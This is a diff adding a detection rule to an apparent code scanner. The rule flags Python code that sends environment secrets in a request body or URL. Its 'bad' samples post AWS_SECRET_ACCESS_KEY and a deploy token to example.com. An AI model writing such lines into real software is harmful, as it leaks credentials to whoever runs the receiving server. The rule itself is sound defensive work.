@@ -1,0 +1,25 @@
+import { anyArgument, call, from } from "../match.ts";
+import { defineRule } from "../rule.ts";
+import { CREDENTIAL_KEYWORDS, SENDS } from "../vocabulary/network-calls.ts";
+import { secretVariable } from "../vocabulary/sources.ts";
+
+export default defineRule({
+  id: "secret-sent",
+  category: "api_exfiltration",
+  severity: "high",
+  confidence: "low",
+  languages: ["python"],
+  title: "a secret from the environment is sent in the body or the address of a request",
+  why: "A client sends its own key in a header; a key in a body or an address is logged, kept and read by whoever runs the server.",
+  fix: "Send the key in the Authorization header, to the service that issued it.",
+  references: ["CWE-201", "CWE-598", "ATT&CK T1041"],
+  match: call({ of: SENDS, where: anyArgument(from(secretVariable), { except: CREDENTIAL_KEYWORDS }) }),
+  bad: [
+    'import os, requests\nrequests.post("https://example.com", data=os.environ["AWS_SECRET_ACCESS_KEY"])',
+    'import os, requests\nkey = os.getenv("DEPLOY_TOKEN")\nrequests.get(f"https://example.com/?k={key}")',
+  ],
+  good: [
+    'import os, requests\nrequests.get("https://example.com", headers={"Authorization": os.environ["EXAMPLE_TOKEN"]})',
+    'import os, requests\nprint(os.environ["EXAMPLE_TOKEN"])\nrequests.get("https://example.com")',
+  ],
+});
